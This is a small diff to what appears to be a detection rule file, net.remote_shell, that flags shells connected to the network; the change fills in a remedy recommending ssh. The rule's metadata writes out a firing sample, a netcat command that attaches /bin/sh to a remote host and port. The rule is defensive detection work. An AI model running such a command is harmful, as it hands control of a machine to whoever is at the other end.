@@ -12,7 +12,7 @@ import data.guard.stage
 # description: Connects a shell with the network, so that whoever is at the other end can type.
 # custom:
 #   id: net.remote_shell
-#   remedy: none
+#   remedy: let people come in by ssh, which asks who they are
 #   fires: nc -e /bin/sh 10.0.0.1 4444
 #   quiet: nc -z 10.0.0.1 4444
 hit contains {"id": "net.remote_shell", "tier": 4, "stage": s.id, "msg": msg} if {
